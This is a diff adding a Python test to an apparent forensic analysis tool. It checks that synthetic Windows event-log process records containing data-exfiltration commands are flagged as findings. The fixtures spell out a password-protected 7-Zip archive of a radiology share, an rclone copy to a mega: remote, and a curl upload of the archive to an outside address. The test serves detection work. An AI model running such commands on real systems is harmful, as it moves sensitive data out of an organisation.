@@ -253,3 +253,55 @@ def evtx_damaged_file_keeps_what_was_read_and_says_what_was_not():
         assert det and det[0][0].endswith(": %d record(s) were not read" % miss), det
     lim = " ".join(r[0] for r in con.execute("SELECT detail FROM limitation"))
     assert "bogus.evtx" in lim or "could not open" in lim, lim
+
+
+@test
+def evtx_exfiltration_commands_are_findings():
+    """Windows process creations weighed (heuristic exfil_command, verdict/heur_command.c).
+    Written before running: of seven 4688 events, three are exfiltration commands and give
+    one finding each: curl -T (an upload; the 5156 of curl.exe two seconds later names the
+    host 10.2.0.7 and the destination 203.0.113.50), 7-Zip with -p and -mhe=on (an encrypted
+    archive) and rclone copy to a remote (both on WS07.hosp.local, no connection of theirs in
+    the log); a download with curl, 7-Zip without a password, notepad and an rclone listing
+    are none."""
+    _evtx_need_reader()
+
+    def proc(sec, exe, cmd):
+        return _evtx_ev(4688, sec, _evtx_subject() + [
+            ("NewProcessName", exe), ("CommandLine", cmd),
+            ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")])
+    evs = [
+        proc(0, "C:\\Windows\\System32\\curl.exe",
+             "curl -o setup.exe https://198.51.100.9/setup.exe"),
+        proc(10, "C:\\Program Files\\7-Zip\\7z.exe", "7z a notes.7z C:\\Users\\jdoe\\notes"),
+        proc(20, "C:\\Program Files\\7-Zip\\7z.exe",
+             "7z a -pW1nter2024 -mhe=on C:\\ProgramData\\x\\pt.7z C:\\Shares\\Radiology\\export"),
+        proc(30, "C:\\Windows\\notepad.exe", "notepad C:\\Users\\jdoe\\todo.txt"),
+        proc(40, "C:\\ProgramData\\x\\rclone.exe", "rclone.exe lsd mega:"),
+        proc(50, "C:\\ProgramData\\x\\rclone.exe",
+             "rclone.exe copy C:\\ProgramData\\x\\pt.7z mega:backup -q"),
+        proc(60, "C:\\Windows\\System32\\curl.exe",
+             "curl.exe -T C:\\ProgramData\\x\\pt.7z https://203.0.113.50/u"),
+        _evtx_ev(5156, 62, [
+            ("ProcessID", "4242"),
+            ("Application", "\\device\\harddiskvolume2\\windows\\system32\\curl.exe"),
+            ("Direction", "%%14593"), ("SourceAddress", "10.2.0.7"), ("SourcePort", "51000"),
+            ("DestAddress", "203.0.113.50"), ("DestPort", "443"), ("Protocol", "6")]),
+    ]
+    path, _ = _evtx_write("Commands", evs)
+    _evtx_check_independently(path, evs)
+    c = case("evtx-commands")
+    run("analyze", "-q", "--home-net", "10.0.0.0/8", path, "-o", c, check=0)
+    got = db(c).execute("SELECT source, destination, json_extract(detail, '$.what'), "
+                        "json_extract(detail, '$.command'), first_ts FROM finding WHERE "
+                        "heuristic = 'exfil_command' ORDER BY first_ts").fetchall()
+    t = lambda s: _EVTX_T0 + s * 1000000  # noqa: E731
+    assert got == [
+        ("WS07.hosp.local", "", "password-protected 7-Zip archive",
+         "7z a -pW1nter2024 -mhe=on C:\\ProgramData\\x\\pt.7z C:\\Shares\\Radiology\\export",
+         t(20)),
+        ("WS07.hosp.local", "", "rclone copy to a remote",
+         "rclone.exe copy C:\\ProgramData\\x\\pt.7z mega:backup -q", t(50)),
+        ("10.2.0.7", "203.0.113.50", "curl upload",
+         "curl.exe -T C:\\ProgramData\\x\\pt.7z https://203.0.113.50/u", t(60)),
+    ], "\n".join(map(repr, got))
